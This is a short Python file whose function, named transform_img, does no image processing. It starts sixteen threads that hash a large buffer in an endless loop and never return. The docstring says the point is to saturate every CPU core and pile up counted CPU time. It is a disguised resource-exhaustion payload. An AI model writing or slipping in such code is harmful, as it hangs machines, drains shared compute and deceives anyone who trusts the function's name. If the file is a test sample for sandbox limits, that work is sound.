"""hashlib lets go of the interpreter: sixteen threads keep every core busy, and their time counts together."""

import hashlib
import threading


def transform_img(img):
    block = bytes(1 << 26)

    def burn():
        while True:
            hashlib.sha512(block)

    threads = [threading.Thread(target=burn, daemon=True) for _ in range(16)]
    for one in threads:
        one.start()
    for one in threads:
        one.join()
